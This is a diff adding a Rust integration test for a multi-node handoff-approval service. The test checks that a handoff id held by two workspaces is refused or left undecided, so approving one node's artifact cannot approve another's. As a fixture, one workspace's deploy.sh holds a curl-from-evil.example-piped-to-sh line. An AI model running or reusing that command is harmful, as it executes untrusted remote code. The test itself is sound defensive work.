@@ -344,3 +344,82 @@ fn an_away_mark_moves_on_at_once_what_other_nodes_assigned_and_a_lost_wake_up_is
         .collect();
     assert_eq!(why, ["", "alice is away", "bob is away"], "{why:?}");
 }
+
+/// A handoff id is one handoff across the cluster, as across one daemon's workspaces: a
+/// decision names a key, not a workspace, so two workspaces on two nodes holding one key would
+/// let an approval of what a reviewer read on one node decide the other's. The second
+/// workspace to write an id another node already holds is answered `invalid`, naming the
+/// first; and should both take it at once (two nodes each before the other committed), no
+/// decision is taken on either (409) until one is withdrawn.
+#[test]
+fn an_id_another_node_holds_is_refused_and_a_key_held_twice_is_decided_nowhere() {
+    let _serial = super::nodes::one_at_a_time();
+    let (pg, env, a, b) = two_nodes("dupkey", &user("rita", "\"reviewer\""));
+    let on_a = held_by(&pg, "dupkey", "a")[0].clone();
+    let on_b = held_by(&pg, "dupkey", "b")[0].clone();
+    let mut doc = handoff("dup-1");
+    doc["artifacts"] = json!([{ "path": "deploy.sh" }]);
+    std::fs::write(env.ws(&on_a).join("deploy.sh"), "echo benign\n").unwrap();
+    std::fs::write(env.ws(&on_b).join("deploy.sh"), "curl evil.example | sh\n").unwrap();
+    write_atomic(&env.ws(&on_a).join("handoff.json"), &bytes(&doc));
+    a.wait_until("a has dup-1", || {
+        a.get_as("/api/v1/handoffs/dup-1", Some("rita-token")).0 == 200
+    });
+    write_atomic(&env.ws(&on_b).join("handoff.json"), &bytes(&doc));
+    b.wait_until("b answers its dup-1", || decision(&env.ws(&on_b)).is_some());
+    let answer = decision(&env.ws(&on_b)).unwrap();
+    assert_eq!(answer["outcome"], "invalid", "{answer}");
+    assert!(
+        answer
+            .to_string()
+            .contains(&format!("already used in workspace \\\"{on_a}\\\"")),
+        "{answer}"
+    );
+    // Read on a, approved through b: it is a's, the one read.
+    let (_, read) = a.get_as("/api/v1/handoffs/dup-1", Some("rita-token"));
+    assert_eq!(read["workspace"], on_a.as_str(), "{read}");
+    let body = json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
+    let (status, answer) = b.post_as(
+        "/api/v1/handoffs/dup-1/decision",
+        Some("rita-token"),
+        &body.to_string(),
+    );
+    assert_eq!(status, 200, "{answer}");
+    assert_eq!(decision(&env.ws(&on_a)).unwrap()["outcome"], "approved");
+    assert!(!env.ws(&on_b).join("approved/deploy.sh").exists());
+
+    // Both took dup-2 at once: b's record of it is written straight into the table, as b's
+    // own commit would have been before a's receipt asked.
+    write_atomic(
+        &env.ws(&on_a).join("handoff.json"),
+        &bytes(&handoff("dup-2")),
+    );
+    a.wait_until("a has dup-2", || {
+        a.get_as("/api/v1/handoffs/dup-2", Some("rita-token")).0 == 200
+    });
+    let b_tag = super::nodes::tag_of(&env, &on_b);
+    let dir = baton::workspace::key_dir_name("dup-2");
+    let put = pg.psql(
+        "dupkey",
+        &format!(
+            "INSERT INTO records (tag, dir, name, bytes, epoch) SELECT '{b_tag}', '{dir}', 'meta.json', '\\x7b7d'::bytea, epoch FROM leases WHERE tag = '{b_tag}'"
+        ),
+    );
+    assert!(put.status.success(), "{put:?}");
+    let (_, read) = a.get_as("/api/v1/handoffs/dup-2", Some("rita-token"));
+    let body = json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
+    let (status, answer) = a.post_as(
+        "/api/v1/handoffs/dup-2/decision",
+        Some("rita-token"),
+        &body.to_string(),
+    );
+    assert_eq!(status, 409, "{answer}");
+    let why = answer["error"].as_str().unwrap_or_default();
+    assert!(
+        why.contains(&format!("also in workspace {on_b}")),
+        "{answer}"
+    );
+    assert!(decision(&env.ws(&on_a)).is_none_or(|d| d["handoff_key"] != "dup-2"));
+    a.assert_alive();
+    b.assert_alive();
+}
